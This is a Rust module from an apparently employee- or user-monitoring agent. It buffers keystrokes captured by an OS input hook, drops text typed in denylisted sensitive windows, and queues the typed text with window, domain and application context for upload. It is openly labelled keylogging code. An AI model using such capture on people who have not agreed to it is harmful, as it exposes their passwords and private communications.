//! Keystroke buffer. An OS input hook publishes key events onto a
//! bounded channel; a single task owns the character buffer and flushes
//! it on a fixed cadence, so mutation and flush are serialized by
//! ownership rather than a lock.

use std::time::Duration;

use anyhow::Result;
use chrono::{DateTime, Utc};
use tokio::sync::{mpsc, watch};
use tokio_util::sync::CancellationToken;
use tracing::{debug, warn};

use crate::{
    agent::{sampler::WindowContext, uploader::UploadItem},
    model::KeylogEntry,
    utils::clock::Clock,
};

/// One keyboard event as delivered by the OS hook.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum KeyEvent {
    Char(char),
    Backspace,
}

/// Seam towards the OS-level input hook. Installation can fail on
/// permission-restricted systems; that disables keystroke capture but
/// nothing else.
#[cfg_attr(test, mockall::automock)]
pub trait InputHook: Send + 'static {
    fn install(&mut self, events: mpsc::Sender<KeyEvent>) -> Result<()>;
}

pub struct KeystrokeBuffer {
    events: mpsc::Receiver<KeyEvent>,
    next: mpsc::Sender<UploadItem>,
    window_context: watch::Receiver<WindowContext>,
    shutdown: CancellationToken,
    flush_interval: Duration,
    max_chars: usize,
    denylist: Vec<String>,
    clock: Box<dyn Clock>,
    buffer: Vec<char>,
    span_start: Option<DateTime<Utc>>,
}

impl KeystrokeBuffer {
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        events: mpsc::Receiver<KeyEvent>,
        next: mpsc::Sender<UploadItem>,
        window_context: watch::Receiver<WindowContext>,
        shutdown: CancellationToken,
        flush_interval: Duration,
        max_chars: usize,
        denylist: Vec<String>,
        clock: Box<dyn Clock>,
    ) -> Self {
        Self {
            events,
            next,
            window_context,
            shutdown,
            flush_interval,
            max_chars,
            denylist: denylist.into_iter().map(|s| s.to_lowercase()).collect(),
            clock,
            buffer: Vec::new(),
            span_start: None,
        }
    }

    fn apply(&mut self, event: KeyEvent) {
        match event {
            KeyEvent::Char(c) => {
                if self.span_start.is_none() {
                    self.span_start = Some(self.clock.now());
                }
                self.buffer.push(c);
            }
            KeyEvent::Backspace => {
                self.buffer.pop();
            }
        }
    }

    /// Builds at most one entry from the current buffer and clears it.
    /// Denylisted windows discard the whole span.
    fn take_entry(&mut self) -> Option<KeylogEntry> {
        if self.buffer.is_empty() {
            self.span_start = None;
            return None;
        }

        let captured_at = self.span_start.take().unwrap_or_else(|| self.clock.now());
        let start = self.buffer.len().saturating_sub(self.max_chars);
        let text: String = self.buffer[start..].iter().collect();
        self.buffer.clear();

        let context = self.window_context.borrow().clone();
        let title_lower = context.window_title.to_lowercase();
        if self.denylist.iter().any(|d| title_lower.contains(d)) {
            debug!("discarding keystroke span for sensitive window");
            return None;
        }

        let Some(monitored_user_id) = context.monitored_user_id else {
            warn!("discarding keystroke span, no monitored user resolved");
            return None;
        };

        Some(KeylogEntry {
            monitored_user_id,
            captured_at,
            text,
            window_title: context.window_title,
            domain: context.domain,
            application: context.application,
        })
    }

    async fn flush(&mut self) {
        if let Some(entry) = self.take_entry() {
            if let Err(e) = self.next.send(UploadItem::Keylog(entry)).await {
                warn!("upload queue closed, dropping keystroke span: {e}");
            }
        }
    }

    pub async fn run(mut self) -> Result<()> {
        let mut deadline = self.clock.instant() + self.flush_interval;
        loop {
            tokio::select! {
                _ = self.shutdown.cancelled() => {
                    self.flush().await;
                    return Ok(());
                }
                event = self.events.recv() => match event {
                    Some(event) => self.apply(event),
                    None => {
                        // hook went away, emit what is left
                        self.flush().await;
                        return Ok(());
                    }
                },
                _ = self.clock.sleep_until(deadline) => {
                    self.flush().await;
                    deadline += self.flush_interval;
                }
            }
        }
    }
}
